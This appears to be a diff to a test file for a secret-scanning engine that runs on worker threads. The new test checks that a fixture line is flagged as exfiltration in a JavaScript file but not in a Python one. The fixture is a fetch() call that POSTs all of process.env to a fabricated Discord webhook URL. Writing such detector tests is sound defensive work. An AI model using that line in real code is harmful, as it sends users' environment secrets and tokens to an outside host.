@@ -28,6 +28,16 @@ describe('the worker-thread engine', () => {
       jobs.push({ kind: 'file' as const, file, maxFileSize: 1 << 20 });
       jobs.push({ kind: 'bytes' as const, bytes: new Uint8Array(Buffer.from(body)) });
     }
+    // Views into one larger buffer (blobs inside a stream chunk) are copied for the worker: they keep
+    // the path they were seen at, whose language decides the evidence (process.env counts in
+    // JavaScript, not in a Python file).
+    const send = `fetch("${fabricate('discord').url}", { method: "POST", body: JSON.stringify(process.env) });\n`;
+    const chunk = Buffer.from(`${send}${send}`);
+    const half = chunk.length / 2;
+    const views = [
+      { kind: 'bytes' as const, bytes: chunk.subarray(0, half), name: 'send.py' },
+      { kind: 'bytes' as const, bytes: chunk.subarray(half), name: 'send.js' },
+    ];
     jobs.push({ kind: 'file' as const, file: join(dir, 'missing.js'), maxFileSize: 1 << 20 });
     writeFileSync(join(dir, 'bin.dat'), Buffer.from([0, 1, 2, 0, 3]));
     jobs.push({ kind: 'file' as const, file: join(dir, 'bin.dat'), maxFileSize: 1 << 20 });
@@ -35,6 +45,10 @@ describe('the worker-thread engine', () => {
       const viaWorkers = await Promise.all(jobs.map((j) => engine.run(structuredClone(j))));
       const viaInline = await Promise.all(jobs.map((j) => inline.run(structuredClone(j))));
       expect(viaWorkers).toEqual(viaInline);
+      const [py, js] = await Promise.all(views.map((v) => engine.run(v)));
+      const sends = (r: typeof py) => (r.ok ? r.matches.map((m) => m.context?.sends ?? []) : []);
+      expect(sends(py)).toEqual([[]]);
+      expect(sends(js)).toEqual([[expect.stringMatching(/process\.env/)]]);
       expect(viaWorkers.filter((r) => r.ok && r.matches.length > 0)).toHaveLength(80);
       expect(viaWorkers.filter((r) => !r.ok).map((r) => (r.ok ? '' : r.reason)).sort()).toEqual(['binary', 'unreadable']);
     } finally {
